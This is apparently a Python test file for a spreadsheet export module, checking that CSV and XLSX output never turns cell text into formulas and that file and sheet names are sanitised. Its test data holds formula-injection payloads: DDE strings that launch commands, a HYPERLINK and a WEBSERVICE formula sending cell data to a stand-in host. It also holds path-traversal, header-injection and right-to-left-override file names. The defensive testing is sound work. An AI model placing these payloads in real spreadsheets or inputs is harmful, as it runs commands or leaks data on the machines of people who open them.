"""Exports: text stays text in every spreadsheet, numbers stay numbers, size costs no memory; reading has limits."""

from __future__ import annotations

import csv
import io
import tracemalloc
from collections.abc import Iterator, Sequence
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tamdao.kit.errors import DomainError
from tamdao.kit.messages import Message
from tamdao.kit.spreadsheets import (
    Column,
    Fact,
    Table,
    exact_number,
    file_name,
    kept_as_text,
    read_rows,
    sheet_name,
    write_csv,
    write_xlsx,
)
from tamdao.kit.spreadsheets.tables import Value
from tests.office import resaved

ATTACKS = [
    '=HYPERLINK("http://x.example/?"&A1,"Xem")', "=1+1", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)",
    "=cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1",
    "＋1+1", "－1+1", "＠SUM(1,1)", "﹦1+1", "\x00=1+1", '=WEBSERVICE("http://x.example")', "+84 912 345 678", "\tText",
    '"=1+1', "'=1+1", '=DDE("soffice","x","y")', "-a", "--1", "-1-1", "=\t1",
]  # fmt: skip
HARMLESS = [
    "",
    "Phú Thọ",
    "01",
    "=",
    "-",
    "+",
    "@",
    "a=b",
    "~5",
    ">=",
    "-5",
    "-1.234,5",
    "-12.5%",
    "25@2025-07-01",
]


def table(rows: Sequence[Sequence[Value]], *columns: Column) -> Table:
    return Table(
        Message("Bảng thử", "A table"),
        columns or (Column("text", Message("Chữ", "Text")),),
        rows,
        (
            Fact(Message("Đơn vị tính", "Unit"), "%"),
            Fact(Message("Nguồn", "Source"), "=1+1"),
            Fact(Message("Địa giới ngày", "Map of"), date(2025, 7, 1)),
        ),
    )


def as_csv(made: Table) -> bytes:
    file = io.BytesIO()
    write_csv(file, made)
    return file.getvalue()


def as_book(made: Table) -> Any:
    file = io.BytesIO()
    write_xlsx(file, made)
    return openpyxl.load_workbook(file)


def formulas(path: Path | Any) -> list[str]:
    book = openpyxl.load_workbook(path) if isinstance(path, Path) else path
    return [
        f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert kept_as_text(text) == text


@given(st.sampled_from("=+-@＝＋－＠"), st.text(min_size=1))
def test_a_cell_that_begins_like_a_formula_is_quoted_or_a_negative_number(sign: str, rest: str) -> None:
    kept = kept_as_text(sign + rest)
    number = kept[:1] == "-" and not set(kept[1:]) - set("0123456789.,%")
    assert kept.startswith("'") or number or len(kept) == 1


@given(st.text())
def test_csv_comes_back_with_as_many_cells_as_went_in(text: str) -> None:
    columns = (Column("a", Message("a", "a")), Column("b", Message("b", "b")))
    made = as_csv(table([(text, "end")], *columns)).decode("utf-8-sig")
    header, row = csv.reader(io.StringIO(made, newline=""))
    assert header == ["a", "b"]
    assert [row[0].removeprefix("'"), row[1]] == [kept_as_text(text).removeprefix("'"), "end"]


def test_csv_has_the_mark_of_excel_and_plain_values() -> None:
    columns = [Column(key, Message(key, key)) for key in ("unit", "score", "day", "rank", "none", "said")]
    row = ("Phú Thọ", Decimal("-0.50"), date(2025, 7, 1), 20, None, Message("Đạt", "Met"))
    raw = as_csv(table([row], *columns))
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.decode("utf-8-sig").splitlines()[1] == "Phú Thọ,-0.50,2025-07-01,20,,Đạt"


def test_libreoffice_finds_no_formula_in_our_csv(tmp_path: Path) -> None:
    columns = (Column("text", Message("Chữ", "Text")), Column("number", Message("Số", "Number")))
    path = tmp_path / "attacks.csv"
    path.write_bytes(as_csv(table([(attack, Decimal("-1.5")) for attack in ATTACKS], *columns)))
    back = resaved(path, tmp_path / "out")
    assert formulas(back) == []
    sheet = openpyxl.load_workbook(back).active
    assert sheet is not None
    found = list(sheet.iter_rows(min_row=2, values_only=True))
    # a line break at the start of a cell stays inside the cell: as many rows as went in
    assert len(found) == len(ATTACKS)
    for attack, (text, number) in zip(ATTACKS, found, strict=True):
        assert isinstance(text, str), attack
        assert number == -1.5, attack


def test_libreoffice_would_find_formulas_without_the_guard(tmp_path: Path) -> None:
    """The test above can fail: the same cells unguarded are formulas."""
    path = tmp_path / "naked.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file).writerows([attack] for attack in ATTACKS)
    assert len(formulas(resaved(path, tmp_path / "out"))) > 5


def test_workbooks_hold_text_numbers_and_dates_as_such() -> None:
    columns = (
        Column("text", Message("Chữ", "Text")),
        Column("number", Message("Số", "Number"), "number", decimals=2),
        Column("date", Message("Ngày", "Day"), "date"),
    )
    book = as_book(
        table([(attack, Decimal("-1234.5"), date(2025, 7, 1)) for attack in [*ATTACKS, *HARMLESS]], *columns)
    )
    assert formulas(book) == []
    sheet = book["Bảng thử"]
    for text, number, day in sheet.iter_rows(min_row=2):
        assert text.data_type in {"s", "n"}
        assert text.value is None or isinstance(text.value, str)
        assert (number.value, number.number_format) == (-1234.5, "#,##0.00")
        assert day.value.date() == date(2025, 7, 1)
        assert day.number_format == "dd/mm/yyyy"
    origin = {row[0].value: row[1].value for row in book["Nguồn · Source"].iter_rows()}
    assert origin["Đơn vị tính"] == "%"
    assert origin["Nguồn"] == "=1+1"
    assert sheet.freeze_panes == "A2"


def test_libreoffice_opens_our_workbook_and_finds_no_formula(tmp_path: Path) -> None:
    path = tmp_path / "attacks.xlsx"
    with path.open("wb") as file:
        write_xlsx(file, table([(attack,) for attack in ATTACKS]))
    back = openpyxl.load_workbook(resaved(path, tmp_path / "out"))
    assert formulas(back) == []
    assert len(list(back.worksheets[0].iter_rows())) == len(ATTACKS) + 1


def test_a_number_that_a_workbook_would_round_is_text() -> None:
    exact = Decimal("12345678901234567.89")
    assert exact_number(exact) is None
    assert exact_number(Decimal("NaN")) is None
    assert exact_number(Decimal("0.6973")) == 0.6973
    book = as_book(table([(exact,)]))
    assert book.worksheets[0]["A2"].value == str(exact)


def test_writing_a_long_table_needs_no_more_memory_than_a_short_one() -> None:
    def rows(count: int) -> Iterator[tuple[Value, ...]]:
        return ((f"Đơn vị {number}",) for number in range(count))

    def peak(count: int) -> int:
        tracemalloc.start()
        with open("/dev/null", "wb") as nowhere:  # noqa: PTH123  # a device, not a file of ours
            write_csv(nowhere, Table(Message("a", "a"), (Column("a", Message("a", "a")),), rows(count)))
        with io.BytesIO() as file:
            write_xlsx(file, Table(Message("a", "a"), (Column("a", Message("a", "a")),), rows(count)))
        top = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return top

    peak(100)  # what is loaded once is not counted
    short, long = peak(100), peak(20_000)
    assert long < short + 3_000_000


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("Chỉ tiêu [2025]: A/B?", "Chỉ tiêu  2025   A B"),
        ("'quoted'", "quoted"),
        ("", "Bảng"),
        ("x" * 60, "x" * 31),
    ],
)
def test_sheet_names_are_such_as_excel_takes(text: str, name: str) -> None:
    assert sheet_name(text) == name


@pytest.mark.parametrize(
    ("stem", "name"),
    [
        ("Chỉ tiêu Vĩnh Phúc", "Chi-tieu-Vinh-Phuc.csv"),
        ("../../etc/passwd", "etc-passwd.csv"),
        ('a"\r\nSet-Cookie: x=1', "a-Set-Cookie-x-1.csv"),
        ("\u202egpj.exe", "gpj.exe.csv"),
        ("Đơn vị", "Don-vi.csv"),
        ("…", "table.csv"),
    ],
)
def test_file_names_hold_nothing_to_misread(stem: str, name: str) -> None:
    assert file_name(stem, "csv") == name


# --- reading -----------------------------------------------------------------------------------------------
@pytest.fixture
def book(tmp_path: Path) -> Path:
    path = tmp_path / "book.xlsx"
    with path.open("wb") as file:
        rows: list[tuple[Value, ...]] = [("=1+1", Decimal("1.5"), date(2025, 7, 1)), ("x", 3, None)]
        write_xlsx(file, table(rows, *(Column(key, Message(key, key)) for key in "abc")))
    return path


def test_a_workbook_is_read_as_values(book: Path) -> None:
    assert list(read_rows(book)) == [
        ("a", "b", "c"),
        ("=1+1", Decimal("1.5"), date(2025, 7, 1)),
        ("x", 3),
    ]


def test_the_other_sheet_is_read_by_its_name_and_an_unknown_one_is_refused(book: Path) -> None:
    assert ("Đơn vị tính", "%") in list(read_rows(book, sheet="Nguồn · Source"))
    with pytest.raises(DomainError) as refused:
        list(read_rows(book, sheet="Khác"))
    assert refused.value.code == "sheet_unknown"


@pytest.mark.parametrize(("rows", "cells"), [(2, 1000), (1000, 7)])
def test_reading_stops_at_its_limits(book: Path, rows: int, cells: int) -> None:
    with pytest.raises(DomainError) as refused:
        list(read_rows(book, max_rows=rows, max_cells=cells))
    assert refused.value.code == "workbook_too_large"


def test_what_is_no_workbook_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    path.write_bytes(b"PK\x03\x04 no workbook")
    with pytest.raises(DomainError) as refused:
        list(read_rows(path))
    assert refused.value.code == "workbook_unreadable"
